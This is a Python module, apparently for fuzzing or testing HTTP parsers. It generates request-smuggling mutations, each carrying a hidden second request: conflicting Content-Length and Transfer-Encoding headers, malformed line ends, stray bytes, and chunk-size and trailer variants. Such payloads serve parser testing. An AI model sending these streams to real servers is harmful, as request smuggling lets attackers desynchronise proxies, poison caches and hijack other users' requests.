"""Streams made to be read in two ways: mutations of framing, line ends, names and chunks, generated, not collected.

The families are those of published work on request smuggling (CL.TE, TE.CL, TE.TE, CL.0, obs-fold, bare line ends, chunk
extensions and sizes). Every stream carries a second request inside or behind the first, for a reader who is fooled.
"""

from collections.abc import Iterator
from itertools import product

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"

LENGTHS = (
    b"Content-Length: 5",
    b"Content-Length: 0",
    b"Content-Length: 3\r\nContent-Length: 5",
    b"Content-Length: 5\r\nContent-Length: 5",
    b"Content-Length: 5, 5",
    b"Content-Length: +5",
    b"Content-Length: -5",
    b"Content-Length: 0x5",
    b"Content-Length: 5_0",
    b"Content-Length: 5 0",
    b"Content-Length:",
    b"Content-Length: 5\x0b",
    b"Content-Length: 00000000000000000000005",
    b"Content-Length: 99999999999999999999999999",
    b"Content-Length: \xd9\xa5",
    b"Content-Length : 5",
    b"Content_Length: 5",
    b"Content-Length: 5;x",
    b"",
)
CODINGS = (
    b"Transfer-Encoding: chunked",
    b"transfer-encoding:chunked",
    b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding:\tchunked\t",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: x, chunked",
    b"Transfer-Encoding: chunked, x",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chun\x00ked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: chunked\r\n x",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encodinq: chunked",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r",
    b"Transfer-Encoding: chunked\n",
    b"\x00Transfer-Encoding: chunked",
    b"Transfer-Encoding\x00: chunked",
    b": chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding",
)
PAYLOADS = (
    b"0\r\n\r\n" + SMUGGLED,
    b"5\r\nhello\r\n0\r\n\r\n",
    b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED),
)


def framing_mutations() -> Iterator[bytes]:
    """Every length with every coding, in both orders, over every payload."""
    for length, coding, payload in product(LENGTHS, CODINGS, PAYLOADS):
        fields = b"\r\n".join(field for field in (length, coding) if field)
        yield b"POST / HTTP/1.1\r\nHost: x\r\n%b\r\n\r\n%b" % (fields, payload)
    for length, coding in product(LENGTHS[:-1], CODINGS):
        yield b"POST / HTTP/1.1\r\nHost: x\r\n%b\r\n%b\r\n\r\n%b" % (coding, length, PAYLOADS[0])


def line_end_mutations() -> Iterator[bytes]:
    """Each line end of a head, one at a time, replaced by something that is not one."""
    lines = [b"POST / HTTP/1.1", b"Host: x", b"Content-Length: 5", b"X: y", b""]
    for at, end in product(
        range(len(lines)), (b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n ", b"\r\n\t", b"\x85", b"", b"\0\r\n")
    ):
        ends = [b"\r\n"] * len(lines)
        ends[at] = end
        yield b"".join(line + end for line, end in zip(lines, ends, strict=True)) + b"hello" + SMUGGLED


def byte_mutations() -> Iterator[bytes]:
    """Every byte that does not belong there, in the method, the target, the version, a name, before a colon, in a value."""
    for byte in (*range(0x21), 0x22, 0x23, 0x28, 0x2C, 0x3A, 0x3B, 0x5C, 0x7B, 0x7F, 0x80, 0xA0, 0xFF):
        odd = bytes([byte])
        for template in (
            b"PO%bST / HTTP/1.1\r\nHost: x\r\n\r\n",
            b"POST /a%bb HTTP/1.1\r\nHost: x\r\n\r\n",
            b"POST / HTTP/1%b.1\r\nHost: x\r\n\r\n",
            b"POST / HTTP/1.1\r\nHost: x\r\nConte%bnt-Length: 5\r\n\r\nhello",
            b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length%b: 5\r\n\r\nhello",
            b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5%b\r\n\r\nhello",
            b"POST / HTTP/1.1\r\nHost: x%by\r\n\r\n",
            b"%bPOST / HTTP/1.1\r\nHost: x\r\n\r\n",
        ):
            yield template.replace(b"%b", odd) + SMUGGLED


def chunk_mutations() -> Iterator[bytes]:
    """Chunk lines, ends and trailers that readers disagree about."""
    head = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    for size in (
        b"5;x", b"5;x=y", b'5;x="\r\n"', b"5 ", b" 5", b"5\t", b"0x5", b"+5", b"-5", b"5_", b"", b"g", b"\x005", b"5\x00",
        b"00000000000000005", b"10000000000000005", b"ffffffffffffffff", b"fffffffffffffffff", b"5\n", b"5\r", b"5;\n",
        b"5;x\ry", b"5,5", b"5 5", b"\xb5", b"4", b"6", b"05",
    ):  # fmt: skip
        yield head + size + b"\r\nhello\r\n0\r\n\r\n" + SMUGGLED
    for end in (b"\n", b"\r", b"", b"\r\n\r\n", b"x\r\n", b"\n\r", b"\r\r\n", b" \r\n"):
        yield head + b"5\r\nhello" + end + b"0\r\n\r\n" + SMUGGLED
        yield head + b"5" + end + b"hello\r\n0\r\n\r\n" + SMUGGLED
        yield head + b"5\r\nhello\r\n0" + end + b"\r\n" + SMUGGLED
        yield head + b"5\r\nhello\r\n0\r\n" + end + SMUGGLED
    for trailer in (
        b"X: y",
        b"X : y",
        b"X",
        b": y",
        b" X: y",
        b"X: y\n",
        b"X: \0",
        b"Content-Length: 9",
        b"X: y\r\n z",
        b"X\r: y",
    ):
        yield head + b"0\r\n" + trailer + b"\r\n\r\n" + SMUGGLED


def request_mutations() -> Iterator[bytes]:
    """First lines, hosts, repeated fields and beginnings that are refused or passed on, never both."""
    for line in (
        b"GET /", b"GET / HTTP/0.9", b"GET / HTTP/2.0", b"GET / HTTP/1.2", b"GET / HTTP/1.10", b"GET / HTTP/11", b"GET / http/1.1",
        b"GET  / HTTP/1.1", b"GET /  HTTP/1.1", b"GET / HTTP/1.1 ", b" GET / HTTP/1.1", b"GET\t/ HTTP/1.1", b"get / HTTP/1.1",
        b"GET / x HTTP/1.1", b"GET http://x/ HTTP/1.1", b"GET x HTTP/1.1", b"GET * HTTP/1.1", b"GET /#f HTTP/1.1", b"GET /\\ HTTP/1.1",
        b"GET /\xc3\xa9 HTTP/1.1", b"GET ?a HTTP/1.1", b"GET /<> HTTP/1.1", b"/ HTTP/1.1", b"", b"HTTP/1.1 200 OK", b"G=T / HTTP/1.1",
        b"OPTIONS * HTTP/1.1", b"GET / HTTP/1.0", b"GET //a/../b;c?d HTTP/1.1", b"GET / HTTP/1.1\r\nHost: y",
    ):  # fmt: skip
        yield line + b"\r\nHost: x\r\n\r\n" + SMUGGLED
    for fields in (
        b"", b"Host:", b"Host: x\r\nHost: x", b"Host: x\r\nhost: y", b"Host: a:b@c/", b"Host: a/b", b"Host: x,y", b"Host: x y",
        b"Host: x:99999999", b"Host: [::1]:80", b"Host: [::1", b"Host: \xc3\xa9", b"Host: x\r\nAuthorization: a\r\nAuthorization: b",
        b"Host: x\r\nDPoP: a\r\ndpop: a", b"Host: x\r\nIdempotency-Key: a\r\nIdempotency-Key: a",
        b"Host: x\r\nContent-Type: a\r\nContent-Type: b", b"Host: x\r\nExpect: 200-maybe", b"Host: x\r\nExpect: 100-continue",
        b"Host: x\r\n: y", b"Host: x\r\nX", b"Host: x\r\nConnection: close", b"Host: x\r\nConnection: Host",
        b"Host: x\r\nUpgrade: websocket\r\nConnection: Upgrade", b"Host: x\r\nHTTP2-Settings: AA",
    ):  # fmt: skip
        yield b"GET / HTTP/1.1\r\n" + fields + b"\r\n\r\n" + SMUGGLED
    for start in (
        b"\r\n",
        b"\r\n\r\n",
        b"\n",
        b"\r",
        b" ",
        b"\0",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\xef\xbb\xbf",
    ):
        yield start + SMUGGLED
        yield SMUGGLED + start + SMUGGLED
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def mutations() -> list[bytes]:
    """All of them, each once."""
    families = (framing_mutations, line_end_mutations, byte_mutations, chunk_mutations, request_mutations)
    return list(dict.fromkeys(stream for family in families for stream in family()))
